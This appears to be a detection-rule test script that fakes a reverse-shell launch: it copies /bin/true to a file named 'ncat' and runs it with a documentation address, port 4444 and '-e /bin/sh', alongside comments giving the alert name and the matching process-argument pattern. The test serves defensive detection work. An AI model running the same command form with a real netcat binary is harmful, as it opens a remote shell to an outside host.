# SPDX-License-Identifier: Apache-2.0
# technique: A relay is started with the option that runs a shell (a stand-in named ncat)
# alert: Relay with a program
# field: proc.args=* -e /bin/sh
cp /bin/true ncat
./ncat 192.0.2.1 4444 -e /bin/sh
